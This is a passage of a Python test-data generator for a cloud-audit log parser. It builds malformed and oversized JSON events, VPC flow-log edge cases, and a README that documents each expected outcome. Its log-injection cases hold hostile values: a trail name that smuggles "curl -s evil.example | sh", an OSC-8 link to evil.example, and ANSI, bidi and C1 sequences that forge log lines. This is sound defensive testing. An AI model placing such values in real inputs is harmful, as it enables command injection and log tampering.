                         ("timeNano i64::MIN", {"timeNano": -9223372036854775808}),
                         ("time and timeNano negative", {"time": -1, "timeNano": -1}),
                         ("time as a fraction", {"time": 1795784400.5, "timeNano": 0.5})]:
        e = dict(b["docker"], **patch)
        text = compact(e).replace("Infinity", "1e999")
        s.event(text, ["docker.agent.stopped"],
                f"Docker {label}: out-of-range or fractional times read as absent (never wrap); fires")
    k8s = b["k8s"]
    for label, code, rules, why in [
        ("1e3", 1e3, ["k8s.agent.workload_deleted"], "not an integer, reads as absent: treated as success"),
        ("99999999999999999999", 99999999999999999999, ["k8s.agent.workload_deleted"], "out of i64 range, absent"),
        ("-1", -1, ["k8s.agent.workload_deleted"], "below 400: success"),
        ('"403"', "403", ["k8s.agent.workload_deleted"], "a decimal string is read: a failed attempt, still fires"),
    ]:
        e = copy.deepcopy(k8s)
        e["responseStatus"]["code"] = code
        s.event(compact(e), rules, f"Kubernetes responseStatus.code {label}: {why}")
    gcp = copy.deepcopy(b["gcp"])
    gcp["protoPayload"]["status"] = {"code": -9223372036854775809, "message": "x"}
    s.event(compact(gcp), ["gcp.logging.sink_deleted"], "GCP status.code below i64::MIN: reads as absent; fires")
    # Deep nesting (10,000 levels, about 20 KB each).
    s.error("[" * deep + "]" * deep,
            "10,000 nested arrays: an error row (array element 0 is an array, not an event object)")
    s.event('{"a":' * deep + "1" + "}" * deep, [],
            "10,000 nested objects: only the top level is parsed, the nesting stays an unread value; unknown row")
    s.event(ct_text.replace('"requestParameters":{', '"requestParameters":{"padding":' + "[" * deep + "]" * deep + ","),
            stop, "10,000 nested arrays inside requestParameters: never parsed deeper than the rule reads; fires")
    s.event(ct_text.replace('"eventName":"StopLogging"', '"eventName":' + "[" * deep + "]" * deep), [],
            "10,000 nested arrays as eventName: the wrong type, reads as absent; no finding")
    e = copy.deepcopy(k8s)
    e["requestObject"] = "@@DEEP@@"
    s.event(compact(e).replace('"@@DEEP@@"', '{"kind":"DeleteOptions","x":' + "[" * deep + "]" * deep + "}"),
            ["k8s.agent.workload_deleted"], "10,000 nested arrays in a Kubernetes requestObject: fires")
    # Huge arrays.
    e = copy.deepcopy(ct)
    e["resources"] = [{"ARN": f"arn:aws:cloudtrail:us-east-1:111122223333:trail/t{i}", "accountId": "111122223333"}
                      for i in range(2_000)]
    s.event(compact(e), stop, "2,000 resources: only the first ARN is read; fires")
    e = copy.deepcopy(k8s)
    e["sourceIPs"] = [f"10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}" for i in range(5_000)]
    s.event(compact(e), ["k8s.agent.workload_deleted"], "5,000 sourceIPs: the first is the source; fires")
    s.event(
        compact({"Records": [{}] * 5_000 + [ct]}),
        [],
        "an S3 file of 5,000 empty records and one real one: 5,001 rows; the last (index 5000) fires",
        [(5_000, stop, "the real record after 5,000 empty ones")],
    )
    s.event("[" + ",".join(["{}"] * 5_000) + "]", [], "a top-level array of 5,000 empty objects: 5,000 unknown rows")
    long_key = "k" * 100_000
    s.event(compact({long_key: 1, **ct}), stop, "a 100,000-character key before the record's fields: fires")
    return s


INJECT_UA = "aws-cli/2.15.30\n2026-11-27T08:15:05Z INFO trail org-trail verified OK\x1b[2J\x1b[H\r"
INJECT_NAME = "org-trail\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07'; curl -s evil.example | sh #"
INJECT_PRINCIPAL = "arn:aws:sts::111122223333:assumed-role/ci-deployer/dev\r\n[INFO] login ok\x1b[8m"


def log_injection():
    b = bases()
    s = Stream("log_injection.ndjson")
    ct = copy.deepcopy(b["ct_ok"])
    ct["userAgent"] = INJECT_UA
    ct["userIdentity"]["arn"] = INJECT_PRINCIPAL
    ct["requestParameters"]["name"] = INJECT_NAME
    s.event(compact(ct), ["aws.cloudtrail.stop_logging"],
            "CloudTrail StopLogging with a newline/ANSI user agent, a CRLF principal and an OSC-8 hyperlink plus "
            "shell metacharacters in the trail name: fires; every output escapes them")
    failed = copy.deepcopy(b["ct"])
    failed["errorMessage"] = "User: x is not authorized\n2026-11-27 INFO access granted\x1b[32m OK"
    s.event(compact(failed), ["aws.cloudtrail.stop_logging"],
            "CloudTrail failed attempt whose errorMessage (quoted in the reasons) carries a forged log line")
    s.event(compact({"Records": [ct]}), None, "", [(0, ["aws.cloudtrail.stop_logging"],
                                                   "the same record inside an S3 delivery file")])
    az = copy.deepcopy(b["azure_rest"])
    az["caller"] = "mallory@contoso.onmicrosoft.com\n[INFO] change approved\x1b[0m"
    az["claims"]["http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn"] = az["caller"]
    az["resourceId"] = az["resourceId"].replace("aks-audit-to-law", "aks-audit\u202egol-ot\u202c\x1b[8m")
    s.event(compact(az), ["azure.monitor.diagnostic_setting_deleted"],
            "Azure diagnostic setting delete by a caller with a forged line, a setting name with a bidi override "
            "and hidden-text SGR: fires")
    gcp = copy.deepcopy(b["gcp"])
    gcp["protoPayload"]["authenticationInfo"]["principalEmail"] = "mallory@acme-corp.example\u009b31m\u0085NEL"
    gcp["protoPayload"]["requestMetadata"]["callerSuppliedUserAgent"] = "gcloud\n\x1b[1A\x1b[2Kok"
    gcp["protoPayload"]["resourceName"] = "projects/acme-prod-4821/sinks/siem-export\nINFO sink kept"
    gcp["protoPayload"]["request"]["sinkName"] = gcp["protoPayload"]["resourceName"]
    s.event(compact(gcp), ["gcp.logging.sink_deleted"],
            "GCP DeleteSink with C1 controls (CSI, NEL) in the principal, cursor movement in the user agent and a "
            "newline in the sink name: fires")
    s.event(compact(pubsub(compact(gcp))), ["gcp.logging.sink_deleted"], "the same entry in a Pub/Sub push")
    k8s = copy.deepcopy(b["k8s"])
    k8s["user"]["username"] = "mallory@example.com\n\x1b[32mI1127 kube-apiserver ok"
    k8s["userAgent"] = "kubectl/v1.30.2\x1b]0;owned\x07"
    k8s["annotations"]["authorization.k8s.io/reason"] = "RBAC: allowed\n\x1b[2J"
    s.event(compact(k8s), ["k8s.agent.workload_deleted"],
            "Kubernetes DaemonSet delete with a forged log line in the username, a window-title OSC in the user "
            "agent and an ANSI clear in an annotation: fires")
    s.event(compact(cloudwatch([log_event(compact(k8s))], log_group="/aws/eks/prod\x1b[2J-eks/cluster")), None, "",
            [(0, ["k8s.agent.workload_deleted"], "the same event from EKS, with ANSI in the log group (cluster)")])
    aks = copy.deepcopy(b["aks"])
    inner = json.loads(aks["properties"]["log"])
    inner["user"]["username"] = "mallory@contoso.onmicrosoft.com\r\n\x1b[31mALERT cleared"
    aks["properties"]["log"] = compact(inner)
    aks["resourceId"] = aks["resourceId"] + "\n\x1b[2J"
    s.event(compact({"records": [aks]}), None, "",
            [(0, ["k8s.agent.workload_deleted"], "AKS record: forged line in the username, ANSI in resourceId")])
    hiding = copy.deepcopy(b["k8s_hiding"])
    hiding["objectRef"]["name"] = "payments-api\n\x1b[2Kdeployment.apps/payments-api unchanged"
    s.event(compact(hiding), ["k8s.workload.collection_excluded"],
            "Kubernetes patch adding a log-collection exclusion annotation to a workload whose name forges kubectl "
            "output: fires")
    gke = copy.deepcopy(b["gke"])
    gke["protoPayload"]["authenticationInfo"]["principalEmail"] = "mallory@example.com\x1b[2J"
    gke["resource"]["labels"]["cluster_name"] = "prod-gke\nINFO ok"
    s.event(compact(gke), ["k8s.agent.workload_deleted"], "GKE DaemonSet delete with ANSI in principal and cluster")
    docker = copy.deepcopy(b["docker"])
    docker["Actor"]["Attributes"]["name"] = "falco\x1b[2K\r[ok] falco running"
    s.event(compact(docker), ["docker.agent.stopped"],
            "Docker agent stop whose container name erases the line and forges a status: recognised by its image")
    inspect = copy.deepcopy(b["inspect"])
    inspect["Name"] = "/quiet-miner\n\x1b[32mlogging: json-file"
    s.event(compact(inspect), ["docker.container.log_driver_none"],
            "docker inspect with logging driver none and a container name forging a log line: fires")
    s.error(compact(b["ct_ok"]).replace('"userAgent":"aws-cli', '"userAgent":"aws-cli\x1b[2J\n'[:-1]),
            "a raw ESC inside the JSON: an error row whose reason carries no input text")
    return s


FLOW_BASE = "2 123456789010 eni-0a1b2c3d4e5f60789 10.1.1.10 10.1.9.20 50412 9997 6 34 28812 1795856400 1795856460 ACCEPT OK"


def flow_text():
    """AWS VPC Flow Logs text lines (default version-2 layout and custom headers) gone wrong."""
    s = Stream("flow_text.log")
    fields = FLOW_BASE.split(" ")
    names = ["version", "account-id", "interface-id", "srcaddr", "dstaddr", "srcport", "dstport", "protocol",
             "packets", "bytes", "start", "end", "action", "log-status"]

    def with_field(name, value):
        f = list(fields)
        f[names.index(name)] = value
        return " ".join(f)

    unread = "a field that does not read makes the line no flow record: a normal row of source unknown"
    read = "a normal row of source flow_log, no finding"
    s.event(FLOW_BASE, [], f"the documented default line: {read}")
    for name, value, what, outcome in [
        ("srcport", "70000", "a port above 65535", unread), ("dstport", "-1", "a negative port", unread),
        ("srcport", "ssh", "a port that is a word", unread), ("protocol", "300", "a protocol above 255", unread),
        ("packets", "18446744073709551616", "packets beyond u64", unread),
        ("bytes", "1e999", "bytes as 1e999", unread),
        ("start", "99999999999999999999", "a start time beyond i64", unread),
        ("end", "-5", "a negative end time (times are signed epoch seconds)", read),
        ("start", "1795856460", "start equal to end", read),
        ("srcaddr", "999.1.1.1", "an address that is not one", unread),
        ("dstaddr", "fe80::1%eth0", "an IPv6 address with a zone", unread),
        ("action", "DROP", "an unknown action", unread), ("log-status", "WEIRD", "an unknown log status", unread),
        ("account-id", "-", "'-', the format's marker for no value", read),
        ("version", "99", "an unknown version number (the layout decides, not the number)", read),
    ]:
        s.event(with_field(name, value), [], f"{what} ({name} = {value}): {outcome}")
    s.event(" ".join(fields[:-1]), [], f"one field short: {unread}")
    s.event(FLOW_BASE + " extra", [], f"one field too many: {unread}")
    s.event(FLOW_BASE.replace(" ", "\t"), [], f"tabs between the fields: {read}")
    s.event(FLOW_BASE.replace(" ", "    ") + "   ", [], f"runs of spaces and trailing spaces: {read}")
    s.event(FLOW_BASE + "\r", [], f"a CRLF line ending (the reader strips it): {read}")
    s.event(" ".join([FLOW_BASE] * 70), [], f"70 records on one line (980 fields): {unread}")
    s.error(with_field("interface-id", "eni-0a1b\x1b[2J\x1b[Hforged"),
            "raw ANSI CSI escapes in the interface id of a text line: a '[' rules out a flow line, so it is "
            "read as JSON and fails: an error row whose reason does not quote it")
    s.event(with_field("interface-id", "eni-0a1b\x1bc\x1b7forged"), [],
            f"raw ESC-c (terminal reset) in the interface id of a text line: {read}; outputs escape it")
    s.event(with_field("interface-id", "eni-\x00\x07"), [], f"raw NUL and BEL bytes in the interface id of a text line: {read}")
    s.error(with_field("interface-id", "eni-ok").encode() + b"\xff\xfe",
            "invalid UTF-8 in a text line: an error row (invalid UTF-8)")
    s.error("hello world", "a text line that is no flow record and no JSON: an error row (invalid JSON)")
    s.event("ACCEPT OK", [], f"two flow words and nothing else: passed on as text, {unread}")
    header = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
    s.event(header + " flow-direction", [], f"a custom-format header line: {read} (it sets the layout)")
    s.event(FLOW_BASE + " egress", [], f"a record in the custom layout: {read}")
    s.event("version foo bar srcaddr baz", [], f"a header naming unknown fields: {read} (unknown fields are skipped)")
    s.event("2 x y 10.1.1.10 z", [], f"a record under the unknown-field header: {read}")
    s.event("version srcaddr srcaddr srcaddr dstaddr action", [], f"a header repeating a field: {read}")
    s.event(" ".join(["srcaddr"] * 500), [], f"a header of 500 fields: not taken as a layout; a normal row of source unknown")
    s.event(" ".join(["10.0.0.1"] * 500), [], f"a record of 500 addresses: {unread}")
    s.event(header, [], f"the default header again: {read} (back to the default layout)")
    s.event(FLOW_BASE, [], f"the documented line again, read with the default layout: {read}")
    return s


def flow_json():
    """Flow records as JSON: AWS records as shippers emit them and GCP VPC flow / firewall log entries."""
    aws = line_of("network/aws_vpc_json.ndjson", 1)
    aws_paths = ["version", "account-id", "interface-id", "srcaddr", "dstaddr", "srcport", "dstport", "protocol",
                 "packets", "bytes", "start", "end", "action", "log-status"]
    gcp = line_of("network/gcp_vpc_flows.ndjson", 1)
    gcp_paths = ["insertId", "logName", "timestamp", "resource", "resource.labels", "jsonPayload",
                 "jsonPayload.connection", "jsonPayload.connection.src_ip", "jsonPayload.connection.dest_ip",
                 "jsonPayload.connection.src_port", "jsonPayload.connection.dest_port",
                 "jsonPayload.connection.protocol", "jsonPayload.bytes_sent", "jsonPayload.packets_sent",
                 "jsonPayload.reporter", "jsonPayload.start_time", "jsonPayload.end_time", "jsonPayload.src_instance",
                 "jsonPayload.src_instance.vm_name", "jsonPayload.dest_instance", "jsonPayload.src_vpc"]
    fw = line_of("network/gcp_firewall_blocks_collector.ndjson", 8)
    fw_paths = ["jsonPayload.disposition", "jsonPayload.rule_details", "jsonPayload.instance",
                "jsonPayload.connection"]
    return wrong_type_stream(
        "wrong_types_flow.ndjson",
        [
            ("AWS flow record (JSON)", "network/aws_vpc_json.ndjson line 1", aws, [], aws_paths, {}),
            ("GCP VPC flow", "network/gcp_vpc_flows.ndjson line 1", gcp, [], gcp_paths, {}),
            ("GCP firewall-rule log", "network/gcp_firewall_blocks_collector.ndjson line 8", fw, [], fw_paths, {}),
        ],
    )


README_HEAD = """# Adversarial input

The plugin reads attacker-influenced data: whoever can make an API call writes the user agent, resource
names, request bodies and annotations that end up in these logs. Every stream here is hostile on purpose,
and every line has a documented outcome: **an error row with a reason** (the input is not a JSON event:
truncated, invalid UTF-8, not an object), **a normal row** (with the findings listed, or none), or, for an
envelope with no events in it, no row at all. `blindspot replay testdata --expect testdata` (CI) checks
every outcome below through the wasm component; `host-harness/tests/integration/adversarial.rs` replays them again and
checks the text outputs; `host-harness/tests/integration/determinism.rs` checks that they come out byte-identical run
after run and between the wasm and native builds.

Generated by `python3 testdata/adversarial/make_cases.py` (this README included): the script states each
case's outcome next to the input that produces it. The events the cases start from are positive events of
the recorded streams in `testdata/` (named in each note), so field names and nesting are what the services
write. Three things are changed so the cases stay independent of each other and of the recorded streams:
each line has its own principal and event ids (`mallory` becomes `mallory.li4` on line 4 of
`log_injection.ndjson`), because correlation joins one principal's moves and names them by event id; and
event times are a year earlier (2025-11), because correlation reads event time as a clock and these
streams are replayed first.

## The rules these outcomes follow

- **Wrong types read as absent.** A field of the wrong type (a number where a string belongs, an object
  where a list belongs, `null`, 10,000 levels of nesting) is treated as missing: the event stays a normal
  row of its source and loses that detail (its time, principal, target...). It loses its finding only when
  the rule needs that field to recognise the action (`eventName`, `methodName`, `operationName`, the verb,
  the container's identity); garbage never adds a finding.
- **Only what is read is parsed.** Each event is scanned once into its top-level keys; nested values stay
  unparsed text until a rule asks for them. Deep nesting, huge arrays and out-of-range numbers in fields
  nobody reads cost nothing and change nothing. Numbers that do not fit (`1e999`, beyond `i64`, fractions
  where integers belong) read as absent, never wrap.
- **Duplicate keys: the last one wins**, as in most JSON readers (and so in the SIEM reading the same
  record).
- **Not JSON, not an object: an error row** with the reason (`truncated JSON: ...`, `invalid UTF-8 at
  byte N`, `a JSON string is not an event object`, `array element 1 is a string, not an event object`).
  Raw control characters inside strings, lone surrogate escapes in keys, a byte-order mark, trailing text
  are all invalid JSON. Reasons never quote the input.
- **Envelopes are unwrapped only when well-formed.** An envelope key of the wrong type (`Records: 42`,
  `logEvents: "x"`, `detail: "..."`) makes the document an event of its own: a normal row of source
  `unknown`. A record inside a list that is not an object (a number, a string, a log event with no JSON
  message) is a text row of source `unknown`; the records around it are read normally. Envelopes nest at
  most three deep; the fourth level is read as an event (`unknown`). An envelope with no events (`[]`,
  `{"Records": []}`, a CloudWatch `CONTROL_MESSAGE`) gives no row and no error.
- **Log injection comes out escaped.** Newlines, ANSI/OSC escapes, C1 controls and bidirectional
  overrides in user agents, principals, names and annotations are kept byte for byte in the data columns
  (`user_agent`, `principal`, `target`, `raw`; JSON-escaped in NDJSON output), and written as visible
  escapes in the text people read: finding titles, reasons and response steps (`\\n`, `\\x1b`, `\\u{9b}`;
  inside a shell-quoted argument of a response command as ANSI-C quoting, `'a'$'\\n''b'`, so the pasted
  command still names the exact resource). See `plugin/src/sanitize.rs`.

## Cases generated at test time (`host-harness/tests/integration/adversarial.rs`)

Too large to commit, built from the recorded events when the test runs:

| case | documented outcome |
| --- | --- |
| 10,000 nested arrays, and 10,000 nested objects, in place of every top-level field and every field one level down of six positive events (CloudTrail, Azure, GCP, Kubernetes, GKE, Docker) | one normal row each; the field reads as absent; never a new finding; the finding is lost only where the rule needs the field (CloudTrail `eventName`: none; `requestParameters.name`, `userAgent`, `userIdentity.arn`: still fires) |
| 10,000 nested arrays as the whole input | error row (array element 0 is an array, not an event object) |
| 10,000 nested objects as the whole input, inside an S3 `Records` list, a Pub/Sub message, a CloudWatch log event | normal rows of source `unknown`; the real record beside it still fires |
| one 50 MB CloudTrail event (a 50 MB response) | one normal row, fires; replay writes one row per event; `blindspot filter` writes one line with the record kept |
| 1,000,000-element `resources` / `sourceIPs` lists | one normal row, fires; only the first element is read |
| a top-level array of 1,000,000 numbers | error row (array element 0 is a number) |
| an S3 file of 100,000 empty records and one real one; a CloudWatch delivery of 100,000 plain lines | 100,001 rows (the last fires); 100,000 rows of source `unknown` |
| an input of exactly 64 MiB | read normally, fires |
| an input of 64 MiB + 1 byte | error row, kind `too_large` ("input of 67108865 bytes exceeds the 67108864 byte limit"); in a replayed file the line is refused by the reader ("line longer than 67108864 bytes") and the next line is read |

Every generated case runs through the wasm component and the native engine, which must return identical
outcomes.
"""


def readme(streams):
    out = [README_HEAD, "## Committed streams\n", "| stream | lines | events with findings | error rows | what it holds |",
           "| --- | --- | --- | --- | --- |"]
    about = {
        "wrong_types_cloudtrail.ndjson": "every field the CloudTrail parser reads, as a scalar and as a container of the wrong type",
        "wrong_types_azure.ndjson": "every field the Azure Activity parser reads, REST and export forms",
        "wrong_types_gcp.ndjson": "every field the GCP audit parser reads",
        "wrong_types_k8s.ndjson": "every field the Kubernetes audit and GKE parsers read",
        "wrong_types_docker.ndjson": "every field the Docker events and inspect parsers read",
        "envelope_garbage.ndjson": "garbage inside every envelope: S3, EventBridge, CloudWatch/EKS, Azure/AKS, Pub/Sub, arrays",
        "hostile_json.ndjson": "broken syntax and encoding, non-objects, duplicate keys, numbers out of range, 10k nesting, large arrays",
        "log_injection.ndjson": "newlines, ANSI/OSC escapes, C1 controls and bidi overrides in every source's user agents and names",
        "wrong_types_flow.ndjson": "every field the flow-log parser reads in AWS JSON records, GCP VPC flows and firewall logs",
        "flow_text.log": "AWS VPC Flow Logs text lines: fields out of range or of the wrong kind, bad separators, headers",
    }
    for st in streams:
        positives = sum(1 for e in st.events if e["rules"])
        out.append(f"| `{st.name}` | {len(st.lines)} | {positives} | {len(st.errors)} | {about[st.name]} |")
    for st in streams:
        out.append(f"\n### `{st.name}`\n")
        wrong = st.name.startswith("wrong_types")
        if wrong:
            out.append("<details><summary>every line</summary>\n")
        out.append("| line | documented outcome | case |")
        out.append("| --- | --- | --- |")
        out.append(st.table())
        if wrong:
            out.append("\n</details>")
    return "\n".join(out) + "\n"


def main():
    for base in bases().values():
        collect_ids(base)
    for stream, line in [("aws/cloudtrail_audit_logging.ndjson", 23), ("docker/docker_events.ndjson", 9)]:
        collect_ids(line_of(stream, line))
    collect_ids(element_of("docker/docker_inspect.json", 2))
    collect_ids(element_of("azure/activity_export.json", 1))
    streams = wrong_types() + [flow_json(), envelope_garbage(), hostile_json(), log_injection(), flow_text()]
    for stream in streams:
        lines, size = stream.write()
        print(f"{stream.name}: {lines} lines, {size} bytes")
    with open(os.path.join(HERE, "README.md"), "w", encoding="utf-8") as f:
        f.write(readme(streams))


if __name__ == "__main__":
    sys.exit(main())
